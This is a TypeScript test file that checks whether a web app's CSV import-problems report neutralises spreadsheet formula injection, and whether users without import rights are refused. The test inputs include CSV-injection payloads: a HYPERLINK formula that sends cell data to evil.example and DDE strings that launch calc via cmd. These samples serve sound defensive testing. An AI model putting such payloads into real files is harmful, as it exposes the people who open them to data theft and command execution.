import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readCsv, type CsvRecord } from '../../src/services/imports/csv.ts';
import { decodeUtf8 } from '../../src/services/imports/utf8.ts';
import { problemsCsv } from '../../src/web/components/ImportReportPanel.tsx';
import {
  createOrganisation,
  createTestApp,
  setupInstallation,
  type Client,
  type TestApp,
} from '../helpers/app.ts';

/**
 * The problems of an import, downloaded as CSV from the browser, quote the imported file
 * (its column names, its values): a formula in them must not run when the file is opened
 * in a spreadsheet, exactly as in the server's exports.
 */
let t: TestApp;
let coordinator: Client;
let counsellor: Client;

beforeAll(async () => {
  t = await createTestApp();
  const installation = await setupInstallation(t.app);
  const centre = await createOrganisation(t.app, installation, 'centre', [
    'coordinator',
    'counsellor',
  ]);
  coordinator = centre.clients.coordinator!;
  counsellor = centre.clients.counsellor!;
});
afterAll(() => t?.close());

async function parse(text: string): Promise<CsvRecord[]> {
  async function* source() {
    yield text;
  }
  const records: CsvRecord[] = [];
  for await (const batch of readCsv(decodeUtf8(source(), { maxBytes: 1e6 })))
    records.push(...batch);
  return records;
}

/** What a spreadsheet would take for a formula (OWASP: =, +, -, @, tab, carriage return). */
const FORMULA = /^[=+\-@\t\r]/;

const HEADER = ['Line', 'Column', 'Code', 'Reason'];

describe('the problems file built in the browser', () => {
  it('neutralises formulas the imported file put in column names, for both delimiters', async () => {
    const evil = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '-2+3',
    ];
    for (const delimiter of [';', ','] as const) {
      const csv = `date${delimiter}type${delimiter}${evil.map((e) => `"${e.replaceAll('"', '""')}"`).join(delimiter)}\n2026-03-01${delimiter}event\n`;
      const response = await coordinator.request('POST', '/api/imports/contacts', csv, {
        'content-type': 'text/csv',
      });
      expect(response.statusCode, response.body).toBe(200);
      const report = response.json();
      expect(report.fileError).toBe(true);
      expect(report.errors[0].column).toBe(evil[0]);

      const file = problemsCsv(report, HEADER);
      const records = await parse(file);
      expect(records[0]!.fields).toEqual(HEADER);
      const cells = records.slice(1).flatMap((r) => r.fields);
      expect(
        cells.filter((cell) => FORMULA.test(cell)),
        delimiter,
      ).toEqual([]);
      // the text itself is kept, behind the quote a spreadsheet shows as text
      expect(records[1]!.fields[1]).toBe(`'${evil[0]}`);
      expect(records[1]!.fields[0]).toBe(String(report.errors[0].line));
      expect(records[1]!.fields[3]).toBe(report.errors[0].message);
    }
  });

  it('is refused to those who may not import, before any file is read', async () => {
    const response = await counsellor.request('POST', '/api/imports/contacts', 'date;type\n', {
      'content-type': 'text/csv',
    });
    expect(response.statusCode).toBe(403);
  });
});
